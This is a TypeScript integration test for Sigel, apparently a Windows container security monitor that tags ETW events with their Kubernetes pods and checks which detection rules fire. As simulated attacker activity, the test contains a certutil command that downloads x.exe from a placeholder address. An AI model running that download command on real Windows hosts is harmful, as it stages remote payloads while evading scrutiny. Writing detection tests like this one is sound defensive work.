import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { readStored, recordsOf, type StoredRecord } from '../interop/otlp_json.ts';
import { startCollector } from '../interop/peers/collector.ts';
import { ensureCollector } from '../interop/peers/collector_build.ts';
import { until } from '../interop/peers/process.ts';
import { sigel as runSigel } from '../interop/sigel.ts';
import { kubernetesLabels } from '../support/fake_containerd.ts';
import { ContainerStory } from './container_story.ts';
import { ContainerdRun } from './containerd_run.ts';
import { windowsBench } from './peers/bench.ts';
import { containerdParts, WindowsContainerd } from './peers/containerd.ts';
import { CONTAINERD_1 } from './peers/containerd_build.ts';
import { NODE_24 } from './peers/node.ts';
import { ensureStandin, Standin } from './peers/standin.ts';
import { windowsPath } from './peers/wine.ts';

// The whole way of a node, as config/node.yaml has it: ETW (played by the stand-in), the real containerd for Windows over
// its pipe, attribution, and a real Collector. What ETW tells has the pids of the processes that containerd started.

/** The sessions of the preset. */
const [LIFECYCLE, EVENTS] = ['sigel-lifecycle', 'sigel-events'];
/** What `sigel record` adds to their names. */
const RECORDED = '-record';

const windows = await windowsBench(NODE_24);
const parts = await containerdParts(CONTAINERD_1);
const library = await ensureStandin();
const otelcol = await ensureCollector();
const absent = [windows, parts, library, otelcol].find((peer) => 'kind' in peer && peer.kind === 'missing');
const skip = absent !== undefined && 'reason' in absent ? absent.reason : false;
after(() => {
  if (windows.kind === 'ready') windows.bench.dispose();
});

test('records of a node are attributed to the pods of a real containerd', { skip }, async (t) => {
  assert.ok(windows.kind === 'ready' && !('kind' in parts));
  assert.ok(library.kind === 'ready' && otelcol.kind === 'ready');
  const { bench } = windows;
  const standin = new Standin(library.path);
  t.after(() => standin.dispose());
  standin.control({ grows: 1 });
  const collector = await startCollector({ path: otelcol.path });
  t.after(() => collector.dispose());
  const containerd = await WindowsContainerd.start(parts);
  t.after(() => containerd.dispose());
  const make = async (id: string, pod: string, annotations: Readonly<Record<string, string>> = {}) => {
    await containerd.create('k8s.io', `sandbox-of-${id}`, { labels: kubernetesLabels(pod) });
    const of = { 'io.kubernetes.cri.sandbox-id': `sandbox-of-${id}`, ...annotations };
    await containerd.create('k8s.io', id, { labels: kubernetesLabels(pod, id), annotations: of });
  };

  // There before Sigel; what ETW knows of it comes later.
  const story = new ContainerStory(containerd);
  await make('web', 'web-1');
  const [web, w3wp] = await story.starts('k8s.io', 'web', 3);
  play(standin, story);
  const doctor = await bench.sigel(['doctor'], { env: standin.env });
  assert.match(doctor.stdout, /^ok {4}containerd +\\\\\.\\pipe\\containerd-containerd answers/m);
  const sigel = new ContainerdRun(bench, containerd.folder, join(bench.folder, 'config', 'node.yaml'), {
    sets: [...SETS, ...captureInto(join(containerd.folder, 'captures'))],
    env: {
      ...standin.env,
      OTLP_ENDPOINT: collector.endpoint,
      OTLP_INSECURE: 'true',
      K8S_CLUSTER_NAME: 'shop-eu',
      K8S_NODE_NAME: 'win-1',
      SIGEL_STORAGE: windowsPath(join(containerd.folder, 'storage')),
    },
  });
  t.after(() => sigel.process.kill());
  await sigel.said('connected to containerd');
  await sigel.said('reading a live session', 2);
  // A recording beside it, of other sessions with the same providers.
  const recording = join(containerd.folder, 'recording');
  const record = bench.startSigel(
    ['record', windowsPath(join(recording, 'node.etl')), '--max-size', '1GiB', '--containers', 'auto'],
    { env: standin.env },
  );
  t.after(() => record.kill());
  await until('both sessions are recorded', () => isRunning(standin, RECORDED), 90_000);

  await make('agent', 'agent-1', { 'microsoft.com/hostprocess-container': 'true' });
  const [agent, exporter] = await story.startsOnHost('k8s.io', 'agent');
  await containerd.create('default', 'tool', { labels: kubernetesLabels('web-1', 'web') });
  const [tool, toolMain] = await story.starts('default', 'tool', 4);
  const shell = await story.executes(web, 'shell');
  const debug = await story.executes(agent, 'debug');
  const child = story.forks(shell, 'C:\\Windows\\System32\\whoami.exe');
  const host = story.forks(story.services, 'C:\\Windows\\System32\\svchost.exe');
  const fetches = '-urlcache -f http://192.0.2.7/x.exe C:\\Temp\\x.exe';
  const attack = story.forks(shell, 'C:\\Windows\\System32\\certutil.exe', fetches);
  for (const process of [w3wp, exporter, toolMain, shell, debug, child, host])
    process.writesFile('C:\\Temp\\x.txt').connects('192.0.2.7', 443);
  await plays(sigel, standin, story);
  // While containerd is away nothing of it is certain, and no journal is written beside a capture.
  await sigel.said('a detection was captured');

  await containerd.kill();
  await containerd.restart();
  await sigel.said('connected to containerd', 2);
  await make('again', 'web-2');
  const [again, againMain] = await story.starts('k8s.io', 'again', 5);
  for (const process of [w3wp, againMain]) process.writesFile('C:\\Temp\\y.txt');
  await plays(sigel, standin, story);
  await sigel.stop();
  const recorded = await record.stop(90_000);
  assert.equal(recorded.code, 0, recorded.stderr);
  await collector.stop();

  const records: StoredRecord[] = [];
  for await (const record of readStored(collector.file)) records.push(record);
  const owners = new Map<number, string>([child, attack].map(({ pid }) => [pid, 'shop/web-1/web']));
  for (const [{ pids }, owner] of [
    [web, 'shop/web-1/web'],
    [agent, 'shop/agent-1/agent'],
    [tool, 'tool'],
    [again, 'shop/web-2/again'],
  ] as const)
    for (const pid of pids) owners.set(pid, owner);
  // What containerd tells is of a container also without a process.
  const [fromEtw, told] = [false, true].map((isTold) =>
    records.filter(({ attributes }) => 'sigel.container.origin' in attributes === isTold),
  ) as [StoredRecord[], StoredRecord[]];
  assert.ok(told.some(({ eventName }) => eventName === 'container.exec'));
  for (const record of fromEtw) {
    const pid = Number(record.attributes['process.pid']);
    assert.equal(ownerOf(record), owners.get(pid) ?? 'node', `${record.eventName} of ${pid}`);
  }
  const detections = records.flatMap(detectionOf).sort();
  assert.deepEqual(
    detections,
    [
      `"File downloaded with a program of Windows": ${attack.pid} of shop/web-1/web`,
      `"Shell in a container connects to a public address": ${shell.pid} of shop/web-1/web`,
      `"Shell in a container connects to a public address": ${debug.pid} of shop/agent-1/agent`,
    ].sort(),
  );
  assert.deepEqual((await replayed(recording)).flatMap(detectionOf).sort(), detections);
  // The download alone is grave enough: what was captured beside it tells whose it was, too.
  const [captured, ...more] = records.filter(({ attributes }) => 'sigel.capture.sha256' in attributes);
  assert.deepEqual(
    [captured, ...more].flatMap((record) => (record === undefined ? [] : detectionOf(record))),
    [detections.find((detection) => detection.includes('File downloaded'))],
  );
  const inCapture = (await replayed(join(containerd.folder, 'captures'))).flatMap(detectionOf);
  assert.ok(
    inCapture.includes(`"File downloaded with a program of Windows": ${attack.pid} of shop/web-1/web`),
  );
  const methodsOf = ({ pid }: { readonly pid: number }) => {
    const own = fromEtw.filter(({ attributes }) => attributes['process.pid'] === pid);
    assert.ok(own.every(({ resource }) => resource['k8s.node.name'] === 'win-1'));
    return new Set(own.map(({ attributes }) => attributes['sigel.attribution.method']));
  };
  assert.deepEqual(
    [w3wp, exporter, debug, toolMain, againMain, child, host].map(methodsOf),
    ['pid', 'pid', 'exec_pid', 'pid', 'pid', 'session', undefined].map((method) => new Set([method])),
  );
});

/** The rule of a detection, and whom it accuses. */
function detectionOf(record: StoredRecord): string[] {
  const { 'security_rule.name': rule, 'process.pid': pid } = record.attributes;
  return rule === undefined ? [] : [`${JSON.stringify(rule)}: ${JSON.stringify(pid)} of ${ownerOf(record)}`];
}

/** What `sigel replay` on Linux makes of a recording with its journal, judged by the rules that Sigel brings. */
async function replayed(folder: string): Promise<StoredRecord[]> {
  const names = readdirSync(folder);
  const traces = names.filter((name) => name.endsWith('.etl')).map((name) => join(folder, name));
  assert.equal(traces.length, 2);
  const [journal = '', ...others] = names.filter((name) => name.endsWith('.containers.ndjson'));
  assert.deepEqual(others, []);
  const { code, stdout, stderr } = await runSigel([
    'replay',
    ...traces,
    '--containers',
    join(folder, journal),
    '--rules',
    'builtin',
    '--format',
    'json',
  ]);
  assert.equal(code, 0, stderr);
  const lines = stdout.split('\n').filter((line) => line !== '');
  return lines.flatMap((line) => Array.from(recordsOf(JSON.parse(line))));
}

/** The pod and container that a record is of, as its resource says. */
function ownerOf({ resource }: StoredRecord): string {
  const names = ['k8s.namespace.name', 'k8s.pod.name'].map((name) => resource[name]);
  if (resource['container.id'] === undefined) return 'node';
  return [...names, resource['container.id']].filter((name) => typeof name === 'string').join('/');
}

function isRunning(standin: Standin, suffix: string): boolean {
  const running = standin.sessions().filter(({ name, running }) => running && name.endsWith(suffix));
  return running.length === 2;
}

/** Goes on with what happened since. */
function play(standin: Standin, story: ContainerStory): void {
  const { events, kernel } = story.traces();
  for (const suffix of ['', RECORDED]) {
    standin.play(kernel, `${LIFECYCLE}${suffix}`);
    standin.play(events, `${EVENTS}${suffix}`);
  }
}

/** The same, and waits until Sigel has it. */
async function plays(sigel: ContainerdRun, standin: Standin, story: ContainerStory): Promise<void> {
  const before = standin.sessions().map(({ name, total }) => [name, total] as const);
  play(standin, story);
  for (const [name, had] of before)
    await sigel.until(`all of ${name} was handed over`, () => {
      const { total = 0, position, buffersWritten, buffersDelivered } = standin.session(name) ?? {};
      return total > had && position === total && buffersDelivered === buffersWritten;
    });
}

/** Grave detections are captured, from the beginning of the story on. */
function captureInto(folder: string): string[] {
  const capture = `{directory: '${windowsPath(folder)}', containerd: containerd, window: 10m}`;
  return [
    `extensions::capture=${capture}`,
    'receivers::etw::capture=capture',
    'processors::signature::capture=capture',
    'service::extensions=[containerd, file_storage, health_check, zpages, capture]',
  ];
}

/** Times are those of the trace: they are compared with containerd's. Nothing is given up, however slow the machine. */
const SETS = [
  'receivers::etw::clock_correction=false',
  'receivers::etw::reorder_window=2s',
  'processors::container_attribution::wait=5m',
];
